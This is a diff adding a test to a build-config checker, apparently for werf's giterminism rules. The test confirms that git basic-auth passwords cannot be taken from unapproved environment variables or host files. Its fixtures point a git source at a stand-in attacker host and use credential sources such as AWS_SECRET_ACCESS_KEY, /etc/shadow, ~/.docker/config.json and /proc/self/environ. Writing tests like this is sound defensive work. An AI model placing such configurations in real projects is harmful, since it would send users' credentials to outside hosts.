@@ -123,3 +123,30 @@ test("a malformed werf-giterminism.yaml is a located error", () => {
   const dir = project({}, { "werf-giterminism.yaml": "/etc/hostname" });
   assert.throws(() => loadGiterminism(new ProjectFiles(dir)), /giterminism config "werf-giterminism\.yaml" is a symbolic link/);
 });
+
+test("a remote git password comes only from variables and host files config.secrets allows", async () => {
+  const git = (password: string) =>
+    `project: p\nconfigVersion: 1\n---\nimage: app\nfrom: alpine\ngit:\n- url: https://attacker.example/x.git\n  tag: v1\n  to: /x\n  basicAuth:\n    username: u\n    password: {${password}}\n`;
+  const check = async (password: string, giterminism?: string, links: Record<string, string> = {}) => {
+    const files: Record<string, string> = { "werf.yaml": git(password), "pw.txt": "p" };
+    if (giterminism) files["werf-giterminism.yaml"] = giterminism;
+    const dir = project(files, links);
+    const rendered = await renderWerfConfig({ dir, environ: {} });
+    try {
+      checkHostPaths(loadWerfConfig(rendered), new ProjectFiles(dir), rendered.giterminism);
+      return "ok";
+    } catch (e) {
+      assert.ok(e instanceof UserError);
+      assert.match(e.diagnostics[0]!.hint ?? "", /config\.secrets\.allow(EnvVariables|Files)/);
+      return e.diagnostics.map((d) => `${d.pos?.line}:${d.pos?.col} ${d.message}`).join("\n");
+    }
+  };
+  assert.equal(await check("env: AWS_SECRET_ACCESS_KEY"), '7:3 basicAuth.password.env "AWS_SECRET_ACCESS_KEY" not allowed by giterminism (git https://attacker.example/x.git)');
+  assert.equal(await check("env: GIT_PW", "config:\n  secrets:\n    allowEnvVariables: [GIT_PW]\n"), "ok");
+  assert.equal(await check("src: /etc/shadow"), '7:3 basicAuth.password.src "/etc/shadow" not allowed by giterminism: /etc/shadow is a host file outside the project');
+  assert.equal(await check("src: ~/.docker/config.json"), `7:3 basicAuth.password.src "~/.docker/config.json" not allowed by giterminism: ${path.join(os.homedir(), ".docker/config.json")} is a host file outside the project`);
+  assert.equal(await check("src: ~/.git-pw", "config:\n  secrets:\n    allowFiles: [~/.git-pw]\n"), "ok");
+  assert.equal(await check("src: pw.txt"), "ok");
+  assert.match(await check("src: leak", undefined, { leak: "/proc/self/environ" }), /basicAuth\.password\.src "leak" not allowed by giterminism/);
+  assert.equal(await check("value: inline"), "ok");
+});
